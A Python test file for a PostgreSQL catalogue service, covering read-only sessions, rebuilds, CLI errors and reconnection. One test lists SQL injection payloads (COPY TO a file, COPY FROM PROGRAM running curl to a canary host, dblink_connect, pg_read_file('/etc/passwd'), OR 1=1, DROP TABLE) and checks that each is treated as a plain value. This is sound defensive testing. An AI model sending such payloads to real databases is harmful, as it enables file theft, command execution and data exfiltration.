"""What only a PostgreSQL store has: read-only sessions with a statement time limit, a rebuild
into a schema that replaces the old one at the commit, the command line with a URL, and hostile
filter values that stay values (no file read, no request sent, no COPY, no dblink)."""

from __future__ import annotations

import json
import threading
import time
from pathlib import Path

import pytest

from panet.catalogue import Catalogue, QueryTimeout, StoreError, build
from panet.catalogue.dialect import SCHEMA_NAME
from panet.loopback import FilterError
from tests.pgserver import Server


def _records(path: Path, count: int, title: str = "SAXS of casein micelles {i}") -> Path:
    with path.open("w") as out:
        for i in range(count):
            record = {"pid": f"p{i}", "title": title.format(i=i), "isPublic": True, "creationDate": "2023"}
            out.write(json.dumps(record) + "\n")
    return path


@pytest.fixture(scope="module")
def store(postgres: Server, tmp_path_factory, onto) -> str:
    url = postgres.create("hostile")
    build([_records(tmp_path_factory.mktemp("pg") / "r.jsonl", 3_000)], url, ontology=onto)
    return url


def test_the_service_connection_is_read_only_and_time_limited(store: str, onto):
    import psycopg

    catalogue = Catalogue(store, onto, timeout=0.5)
    with pytest.raises(psycopg.errors.ReadOnlySqlTransaction):
        catalogue._run("INSERT INTO meta VALUES ('written', 'by a reader')", [])
    with pytest.raises(QueryTimeout, match=r"longer than 0\.5 s"):
        catalogue._run("SELECT pg_sleep(3)", [])
    assert catalogue.count("Dataset") == 3_000  # the connection still answers after a cancelled statement


def test_hostile_filter_values_are_compared_never_run(store: str, onto, tmp_path: Path):
    from server import Canary

    canary = Canary()
    written = tmp_path / "written-by-postgres"
    catalogue = Catalogue(store, onto)
    attacks = [
        f"'); COPY (SELECT 1) TO '{written}'; --",
        f"' || (SELECT dblink_connect('host={canary.url}')) || '",
        "' || pg_read_file('/etc/passwd') || '",
        f"x'; COPY meta FROM PROGRAM 'curl {canary.url}'; --",
        "%' OR 1=1 --",
    ]
    try:
        for value in attacks:
            for spec in (
                {"where": {"title": value}},
                {"where": {"title": {"like": value}}},
                {"where": {"pid": {"inq": [value, canary.url]}}},
                {"where": {"text": value}},
                {"include": [{"relation": "techniques", "scope": {"where": {"name": value}}}]},
                {"include": [{"relation": "parameters", "scope": {"where": {"name": value, "value": {"gt": value}}}}]},
            ):
                assert catalogue.find("Dataset", spec) == [], spec
            catalogue.find("Dataset", query=value)  # the words of the value, ranked; nothing else
            assert catalogue.count("Dataset", {"title": {"nlike": value}}) == 3_000
        for name in ("title') || pg_read_file('/etc/passwd') || ('", "title; DROP TABLE dataset"):
            with pytest.raises(FilterError, match="no property"):
                catalogue.find("Dataset", {"where": {name: 1}})
            with pytest.raises(FilterError, match="order by one of"):
                catalogue.find("Dataset", {"order": name})
    finally:
        canary.close()
    assert canary.hits == []
    assert not written.exists()
    assert catalogue.count("Dataset") == 3_000


def test_a_rebuild_replaces_the_store_at_the_commit_and_readers_see_one_or_the_other(
    postgres: Server, tmp_path: Path, onto
):
    url = postgres.create("swap")
    build([_records(tmp_path / "old.jsonl", 50, "old {i}")], url, ontology=onto)
    reader = Catalogue(url, onto)
    seen: set[int] = set()
    stop = threading.Event()

    def watch() -> None:
        while not stop.is_set():
            seen.add(reader.count("Dataset", {"title": {"like": "old%"}}))

    watcher = threading.Thread(target=watch)
    watcher.start()
    try:
        build([_records(tmp_path / "new.jsonl", 2_000, "new {i}")], url, ontology=onto, rebuild=True)
    finally:
        stop.set()
        watcher.join()
    assert seen <= {50, 0} and 50 in seen  # the old store whole, then none of it
    fresh = Catalogue(url, onto)
    assert fresh.count("Dataset") == 2_000
    assert fresh.count("Dataset", {"title": {"like": "old%"}}) == 0
    import psycopg

    with psycopg.connect(url) as db:
        schemas = {row[0] for row in db.execute("SELECT nspname FROM pg_namespace WHERE nspname LIKE 'panet%'")}
    assert schemas == {SCHEMA_NAME}


def test_the_commands_take_a_url_and_say_what_went_wrong(postgres: Server, tmp_path: Path, capsys, monkeypatch):
    from panet.cli import main

    records = _records(tmp_path / "d.jsonl", 2)
    url = postgres.create("cli")
    assert main(["catalogue", "build", str(records), "-o", url, "--json"]) == 0
    assert json.loads(capsys.readouterr().out) | {"rejected": []} == {
        "store": url, "datasets": 2, "documents": 0, "deleted": 0, "rejected": []
    }  # fmt: skip
    monkeypatch.setenv("PANET_CATALOGUE", url)  # the store named once, for build and serve alike
    assert main(["catalogue", "build", str(_records(tmp_path / "more.jsonl", 3)), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["store"] == url
    assert Catalogue(url).count("Dataset") == 3  # p0 and p1 updated, p2 added
    monkeypatch.delenv("PANET_CATALOGUE")
    nowhere = f"postgresql://nobody:secret@127.0.0.1:{postgres.port + 1}/nope"
    assert main(["catalogue", "build", str(records), "-o", nowhere]) == 2
    err = capsys.readouterr().err
    assert err.startswith("panet: error: ") and "cannot connect" in err and "secret" not in err
    assert main(["serve", "--catalogue", nowhere, "--port", "0"]) == 2
    assert "cannot connect" in capsys.readouterr().err
    empty = postgres.create("empty")
    assert main(["serve", "--catalogue", empty, "--port", "0"]) == 2
    assert "not a panet catalogue (a PostgreSQL database" in capsys.readouterr().err
    with pytest.raises(StoreError, match="not a panet catalogue"):
        Catalogue(empty)
    import psycopg

    with psycopg.connect(empty, autocommit=True) as admin:
        admin.execute("CREATE ROLE panet_guest LOGIN")  # may connect, may not create a schema
    guest = empty.replace(f"{postgres.user}@", "panet_guest@")
    assert main(["catalogue", "build", str(records), "-o", guest]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "the build was refused and nothing kept (permission denied" in err


def test_a_lost_connection_is_opened_anew(store: str, onto):
    import psycopg

    catalogue = Catalogue(store, onto)
    assert catalogue.count("Dataset") == 3_000
    with psycopg.connect(store, autocommit=True) as admin:  # as a server restart does to the service's connection
        killed = admin.execute(
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid() "
            "AND datname = current_database()"
        ).fetchall()
    assert killed
    assert catalogue.count("Dataset") == 3_000


def test_without_postgresql_the_cases_skip_or_fail_under_ci(monkeypatch):
    from tests.catalogue.conftest import no_postgres

    monkeypatch.setenv("CI", "")
    with pytest.raises(pytest.skip.Exception, match="not installed"):
        no_postgres("PostgreSQL is not installed")
    monkeypatch.setenv("CI", "true")
    with pytest.raises(pytest.fail.Exception, match="CI=true: PostgreSQL is not installed"):
        no_postgres("PostgreSQL is not installed")


def test_connections_follow_queries_at_once_not_threads(store: str, onto):
    import gc

    import psycopg

    def connections() -> int:
        gc.collect()  # catalogues of other tests close theirs
        with psycopg.connect(store, autocommit=True) as admin:
            query = (
                "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() AND pid <> pg_backend_pid()"
            )
            return admin.execute(query).fetchone()[0]

    before = connections()
    catalogue = Catalogue(store, onto)
    turn = threading.Lock()
    finish = threading.Event()

    done: list[int] = []

    def query() -> None:
        with turn:  # one query at a time, each from its own thread
            done.append(catalogue.count("Dataset"))
        finish.wait()  # the threads live on while the connections are counted

    threads = [threading.Thread(target=query) for _ in range(12)]
    for thread in threads:
        thread.start()
    try:
        deadline = time.monotonic() + 60
        while len(done) < len(threads) and time.monotonic() < deadline:
            time.sleep(0.01)
        assert done == [3_000] * len(threads)
        assert connections() - before == 1  # twelve threads, one query at a time: one connection
    finally:
        finish.set()
        for thread in threads:
            thread.join()


def test_a_reader_role_keeps_its_rights_across_rebuilds(postgres: Server, tmp_path: Path, onto):
    """The deployment docs/pan-search-api.md describes: the service logs in as a role that may
    only read; default privileges give it each new schema a rebuild makes."""
    import psycopg

    url = postgres.create("roles")
    with psycopg.connect(url, autocommit=True) as admin:
        admin.execute("CREATE ROLE panet_reader LOGIN")
        admin.execute(f"ALTER DEFAULT PRIVILEGES FOR ROLE {postgres.user} GRANT USAGE ON SCHEMAS TO panet_reader")
        admin.execute(f"ALTER DEFAULT PRIVILEGES FOR ROLE {postgres.user} GRANT SELECT ON TABLES TO panet_reader")
    reader_url = url.replace(f"{postgres.user}@", "panet_reader@")
    records = _records(tmp_path / "r.jsonl", 5)
    for rebuild in (False, True, False):
        build([records], url, ontology=onto, rebuild=rebuild)
        reader = Catalogue(reader_url, onto)
        assert reader.count("Dataset") == 5
    with psycopg.connect(reader_url, autocommit=True) as db, pytest.raises(psycopg.errors.InsufficientPrivilege):
        db.execute(f"DELETE FROM {SCHEMA_NAME}.dataset")


def test_panet_serve_takes_a_url_and_answers_503_while_the_store_is_away(tmp_path: Path, onto):
    import httpx

    from tests.pgserver import running_postgres
    from tests.server import running_server

    with running_postgres() as own:  # a server of this test's own, to stop under the service
        url = own.create("served")
        build([_records(tmp_path / "r.jsonl", 20)], url, ontology=onto)
        with running_server("--catalogue", url) as base:
            assert httpx.get(f"{base}/datasets/count", timeout=30).json() == {"count": 20}
            found = httpx.get(f"{base}/datasets", params={"query": "casein", "filter": '{"limit": 3}'}, timeout=30)
            assert [d["pid"] for d in found.json()] == ["p0", "p1", "p2"]
            own.stop()
            answer = httpx.get(f"{base}/datasets/count", timeout=30)
            assert (answer.status_code, answer.headers["content-type"]) == (503, "application/problem+json")
            assert "cannot connect (connection failed" in answer.json()["detail"]
            assert "\n" not in answer.json()["detail"]
            assert httpx.get(f"{base}/health", timeout=30).status_code == 200
